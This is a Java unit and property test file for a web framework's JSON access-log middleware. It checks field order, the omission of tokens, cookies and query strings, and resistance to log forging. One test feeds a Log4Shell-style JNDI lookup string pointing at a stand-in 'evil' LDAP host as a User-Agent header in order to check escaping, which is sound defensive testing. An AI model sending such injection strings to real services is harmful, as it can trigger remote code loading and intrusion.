package dev.edge4j.middleware;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.edge4j.App;
import dev.edge4j.Gate;
import dev.edge4j.Verdict;
import dev.edge4j.http.Body;
import dev.edge4j.http.Request;
import dev.edge4j.http.RequestTarget;
import dev.edge4j.http.Response;
import dev.edge4j.json.JsonCodec;
import dev.edge4j.json.TypeRef;
import dev.edge4j.testing.VirtualClock;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;

/** One JSON object for each response: a program reads it as it was, and nothing in it is secret or forged. */
class JsonAccessLogWritesOneObjectTest {
  private static final Map<String, Object> NO_CLAIMS = Map.of();

  private final List<String> lines = new ArrayList<>();
  private final VirtualClock clock = new VirtualClock(Instant.parse("2026-01-01T12:00:00.123Z"));

  private String line(JsonAccessLog log, Request request) {
    var app = new App().time(clock);
    app.use(log.to(lines::add), RequestId.create());
    app.use((Gate) c -> {
      c.set(TraceId.KEY, new TraceId("0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"));
      c.set(Principal.KEY, new Principal("ada \"the first\"", Set.of(), NO_CLAIMS));
      return Verdict.pass();
    });
    app.get("/products/:id", c -> {
      clock.advance(Duration.ofNanos(3_204_000));
      return c.text("hello");
    });
    app.get("/stream", c -> Response.of(200).withBody(new Body.Stream(out -> out.write(1))));
    lines.clear();
    app.request(request);
    assertEquals(1, lines.size());
    return lines.getFirst();
  }

  private static Map<String, Object> parsed(String line) {
    return JsonCodec.jackson().read(line.getBytes(StandardCharsets.UTF_8), new TypeRef<Map<String, Object>>() {});
  }

  @Test
  void withStableNamesInOrder() {
    assertEquals(
        "{\"timestamp\":\"2026-01-01T12:00:00.126204Z\",\"http.request.method\":\"GET\",\"url.path\":\"/products/7\","
            + "\"http.route\":\"/products/:id\",\"http.response.status_code\":200,\"duration_ms\":3.204,"
            + "\"http.response.body.size\":5,\"request_id\":\"id-1\",\"trace_id\":\"0af7651916cd43dd8448eb211c80319c\","
            + "\"span_id\":\"b7ad6b7169203331\",\"client.address\":\"127.0.0.1\"}",
        line(AccessLog.json(), Request.get("/products/7").withHeader("X-Request-Id", "id-1")));
  }

  @Test
  void whatIsNotKnownIsLeftOut() {
    assertFalse(parsed(line(AccessLog.json(), Request.get("/nowhere"))).containsKey("http.route"));
    assertFalse(parsed(line(AccessLog.json(), Request.get("/stream"))).containsKey("http.response.body.size"));
  }

  @Test
  void queriesHeaderValuesAndNamesAreNotWritten() {
    String line = line(AccessLog.json(), Request.get("/products/7?token=hunter2")
        .withHeader("Authorization", "Bearer hunter2")
        .withHeader("Cookie", "session=hunter2")
        .withHeader("User-Agent", "hunter2"));
    assertFalse(line.contains("hunter2"), line);
    assertFalse(line.contains("ada"), line);
  }

  @Test
  void whatIsAskedForIsWritten() {
    JsonAccessLog log = AccessLog.json().withUser().withHeaders("User-Agent", "Referer");
    String agent = "x\"} ${jndi:ldap://evil}\t";
    String line = line(log, Request.get("/products/7").withHeader("User-Agent", agent));
    Map<String, Object> members = parsed(line);
    assertEquals("ada \"the first\"", members.get("user.id"));
    assertEquals(agent, members.get("http.request.header.user-agent"));
    assertFalse(members.containsKey("http.request.header.referer"));
    assertFalse(line.contains("${"), line);
  }

  @Test
  void fieldsThatHoldSecretsAreRefused() {
    for (String secret : List.of("Authorization", "cookie", "Proxy-Authorization")) {
      assertThrows(IllegalArgumentException.class, () -> AccessLog.json().withHeaders(secret));
    }
  }

  @Test
  void warmUpIsNotWritten() {
    var app = new App();
    app.use(AccessLog.json().to(lines::add));
    app.get("/", c -> c.text("ok"));
    app.warmUp(Request.get("/"));
    assertTrue(lines.isEmpty());
  }

  @Property(tries = 300)
  void noPathCanForgeALineOrAMember(@ForAll String text) {
    var app = new App();
    app.use(AccessLog.json().to(lines::add));
    app.get("/", c -> c.text(""));
    app.request(Request.get("/").withTarget(new RequestTarget("/", "/" + text, "")));
    String line = lines.getLast();
    assertEquals(1, line.lines().count());
    assertEquals("/" + text, parsed(line).get("url.path"));
    assertTrue(line.chars().noneMatch(c -> c == '$' || c == '<' || c == '\u2028'), line);
  }
}
